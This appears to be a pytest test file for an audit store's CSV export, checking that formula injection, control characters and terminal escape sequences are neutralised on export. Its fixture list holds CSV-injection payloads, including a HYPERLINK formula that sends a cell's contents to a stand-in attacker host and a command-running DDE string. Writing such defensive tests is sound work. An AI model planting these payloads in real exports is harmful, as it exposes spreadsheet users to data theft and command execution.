"""CSV export of hostile text: no formula a spreadsheet would run, no control character;
read back with `csv`, every row is the store's event with the same neutralisation applied."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine.core.audit import AuditEvent, AuditType
from engine.core.model import Reason
from engine.core.text import clean, has_control
from engine.store import Store
from engine.store.export import CSV_FIELDS, FORMULA_PREFIXES, csv_cell, iso_utc

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a,b;c",
    'say "hi"',
    "two\nlines",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b2J\x7f\x00",
    "שלום 👋",
    "=" * 3,
]


def events(texts: list[str]) -> list[AuditEvent]:
    return [
        AuditEvent(
            at=10.0 + i,
            type=AuditType.OVERRIDE_HOLD,
            conv=text,
            agent=text[::-1] or None,
            reason=Reason.MANUAL,
            by=text or "someone",
            detail=text,
            key=text,
            as_of=9.5 + i,
        )
        for i, text in enumerate(texts)
    ]


def expected(event: AuditEvent) -> dict[str, str]:
    """The store's event with the same neutralisation applied, as csv reads it back."""
    record = event.to_record()
    row = {field: "" for field in CSV_FIELDS}
    for field, value in record.items():
        if isinstance(value, str):
            quoted = "'" + value if value.startswith(FORMULA_PREFIXES) else value
            row[field] = clean(quoted)
        else:
            row[field] = str(value)
    row["time"] = iso_utc(event.at)
    return row


def round_trip(tmp_path: Path, written: list[AuditEvent]) -> tuple[str, list[AuditEvent]]:
    with Store.open(tmp_path / "fw.db") as store:
        store.append(written)
        stored = [event for _, event in store.audit()]
        out = io.StringIO()
        assert store.export_csv(out) == len(written)
    return out.getvalue(), stored


def assert_safe(text: str, stored: list[AuditEvent]) -> None:
    assert not has_control(text.replace("\n", "")), "the only control characters are line ends"
    assert text.count("\n") == len(stored) + 1, "one line per row: no line break inside a cell"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [expected(event) for event in stored]
    for row in rows:
        for field in ("time", "type", "conv", "agent", "reason", "by", "detail", "key"):
            assert not row[field].startswith(FORMULA_PREFIXES), (field, row[field])


def test_hostile_cells_round_trip_neutralised(tmp_path: Path) -> None:
    text, stored = round_trip(tmp_path, events(HOSTILE))
    assert_safe(text, stored)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["conv"] == "'" + HOSTILE[0]
    assert rows[4]["conv"] == "'␉=1+1" and rows[5]["conv"] == "'␍=1+1"
    assert rows[6]["conv"] == "a,b;c" and '"a,b;c"' in text, "the separator is quoted"
    assert rows[8]["conv"] == "two␊lines"
    assert rows[9]["conv"] == "␛]52;c;ZXZpbA==␇"
    assert rows[11]["conv"] == "שלום 👋", "ordinary Unicode is kept"
    assert rows[0]["at"] == "10.0", "numbers are written as numbers"


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.text(st.characters(codec="utf-8"), min_size=1, max_size=40),
        min_size=1,
        max_size=5,
    )
)
def test_any_text_round_trips_neutralised(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    text, stored = round_trip(tmp_path_factory.mktemp("export"), events(texts))
    assert_safe(text, stored)


@pytest.mark.parametrize(("value", "cell"), [("=1", "'=1"), ("a=1", "a=1"), (-1.5, -1.5), ("", "")])
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
